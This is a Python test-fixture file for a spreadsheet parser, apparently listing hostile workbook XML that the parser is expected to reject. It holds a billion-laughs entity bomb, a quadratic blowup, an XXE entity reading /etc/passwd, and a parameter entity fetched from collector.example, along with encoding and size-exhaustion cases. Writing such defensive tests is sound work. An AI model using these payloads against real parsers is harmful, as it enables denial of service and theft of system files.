"""XML made to mislead or to exhaust whoever reads it."""

from collections.abc import Callable

from tests.workbooks.packing import (
    DECLARATION,
    LINKS,
    MAIN,
    book,
    cell,
    relations,
    row,
    sheet,
    workbook,
)
from tests.workbooks.should_fail.archives import ROWS
from tests.workbooks.should_fail.case import Case

LAUGHS = "<!DOCTYPE a [<!ENTITY l0 'ha'>{}]>".format(
    "".join(f"<!ENTITY l{n} '{f'&l{n - 1};' * 10}'>" for n in range(1, 10))
)
QUADRATIC = f"<!DOCTYPE a [<!ENTITY q '{'x' * 50_000}'>]>"
EXTERNAL = "<!DOCTYPE a [<!ENTITY e SYSTEM 'file:///etc/passwd'>]>"
PARAMETER = "<!DOCTYPE a [<!ENTITY % p SYSTEM 'http://collector.example/'> %p;]>"
MANY = " ".join(f"a{n}='1'" for n in range(5_000))
STRINGS = '{}<sst xmlns="' + MAIN + '"><si><t>{}</t></si></sst>'


def _with(before: str, text: str) -> Callable[[], bytes]:
    return lambda: workbook(sheet=sheet(row(1, [text]), before=before))


def _in(encoding: str, declared: str) -> Callable[[], bytes]:
    before = f'<?xml version="1.0" encoding="{declared}"?>'
    return lambda: workbook(sheet=sheet(ROWS, before=before).encode(encoding))


CASES = {
    "billion_laughs": Case("dtd", _with(LAUGHS, "&l9;")),
    "quadratic_entities": Case("dtd", _with(QUADRATIC, "&q;" * 2_000)),
    "entity_from_a_file": Case("dtd", _with(EXTERNAL, "&e;")),
    "entity_from_the_network": Case("dtd", _with(PARAMETER, "a")),
    "entity_in_the_strings": Case(
        "dtd",
        lambda: workbook(
            '<row r="1"><c r="A1" t="s"><v>0</v></c></row>', strings=STRINGS.format(LAUGHS, "&l9;")
        ),
    ),
    "entity_in_the_list_of_sheets": Case(
        "dtd", lambda: workbook(ROWS, book=LAUGHS.encode() + book()[len(DECLARATION) :])
    ),
    "entity_behind_two_megabytes": Case(
        "dtd",
        lambda: workbook(sheet=f"<!-- {'x' * 900_000} -->" * 3 + sheet(ROWS, before=EXTERNAL)),
    ),
    "utf_16": Case("encoding", _in("utf-16", "UTF-16")),
    "utf_16_without_mark": Case("encoding", _in("utf-16-le", "UTF-16LE")),
    "entities_in_utf_16": Case(
        "encoding",
        lambda: workbook(
            sheet=sheet(ROWS, before=f'<?xml version="1.0" encoding="UTF-16"?>{EXTERNAL}').encode(
                "utf-16-be"
            )
        ),
    ),
    "utf_7": Case("encoding", _in("utf-8", "UTF-7")),
    "gbk_part": Case("encoding", _in("gbk", "GBK")),
    "ebcdic": Case("damaged", lambda: workbook(sheet=sheet("", before="").encode("cp037"))),
    "declared_far_behind_blanks": Case(
        "markup",
        lambda: workbook(
            sheet=sheet(ROWS, before=f'<?xml version="1.0"{" " * 9_000}encoding="UTF-16"?>')
        ),
    ),
    "gbk_without_saying_so": Case("damaged", lambda: workbook(sheet=sheet(ROWS).encode("gbk"))),
    "surrogate": Case("damaged", lambda: workbook(row(1, ["&#xD800;"]))),
    "nul_by_reference": Case("damaged", lambda: workbook(row(1, ["a&#0;b"]))),
    "nul_in_a_cell": Case("damaged", lambda: workbook(row(1, ["a\x00b"]))),
    "unclosed": Case("damaged", lambda: workbook(sheet=sheet(ROWS)[:-30])),
    "not_xml_at_all": Case("damaged", lambda: workbook(sheet="户编号,姓名\n")),
    "deep_elements": Case(
        "markup", lambda: workbook(sheet=sheet("", after="<a>" * 5_000 + "</a>" * 5_000))
    ),
    "many_attributes": Case(
        "markup",
        lambda: workbook(f'<row r="1" {MANY}></row>'),
    ),
    "long_attribute": Case(
        "markup", lambda: workbook(f'<row r="1" a="{"x" * 3_000_000}">{cell("A1", 1)}</row>')
    ),
    "long_comment": Case("markup", lambda: workbook(f"<!--{'x' * 3_000_000}-->{ROWS}")),
    "long_instruction": Case("markup", lambda: workbook(f"<?a {'x' * 3_000_000}?>{ROWS}")),
    "many_element_names": Case(
        "markup", lambda: workbook("".join(f"<n{n:x}/>" for n in range(150_000)) + ROWS)
    ),
    "reference_by_references": Case(
        "columns", lambda: workbook('<row r="1"><c r="&#88;&#70;&#68;1"><v>1</v></c></row>')
    ),
    "reference_without_end": Case(
        "markup", lambda: workbook('<row r="1"><c r="ZZZZZZZ1"><v>1</v></c></row>')
    ),
    "row_beyond_any_number": Case(
        "rows", lambda: workbook('<row r="4294967296"><c><v>1</v></c></row>')
    ),
    "no_sheets": Case("sheets", lambda: workbook(ROWS, book=book(""))),
    "only_hidden_sheets": Case(
        "sheets",
        lambda: workbook(
            ROWS, book=book('<sheet name="a" sheetId="1" state="hidden" r:id="rId1"/>')
        ),
    ),
    "sheet_is_missing": Case("parser", lambda: workbook(sheet=None)),
    "sheet_has_no_relation": Case("parser", lambda: workbook(ROWS, relations=relations())),
    "no_list_of_sheets": Case("sheets", lambda: workbook(ROWS, book=None)),
    "relations_in_a_circle": Case(
        "no_rows",
        lambda: workbook(
            ROWS,
            relations=relations(("worksheet", "workbook.xml"), ("officeDocument", "workbook.xml")),
        ),
    ),
    "nothing_in_it": Case("no_rows", lambda: workbook("")),
    "string_that_is_not_there": Case(
        "parser", lambda: workbook('<row r="1"><c r="A1" t="s"><v>77</v></c></row>')
    ),
    "namespace_of_its_own": Case(
        "no_rows",
        lambda: workbook(sheet=f'<worksheet xmlns="{LINKS}"><data>{ROWS}</data></worksheet>'),
    ),
}
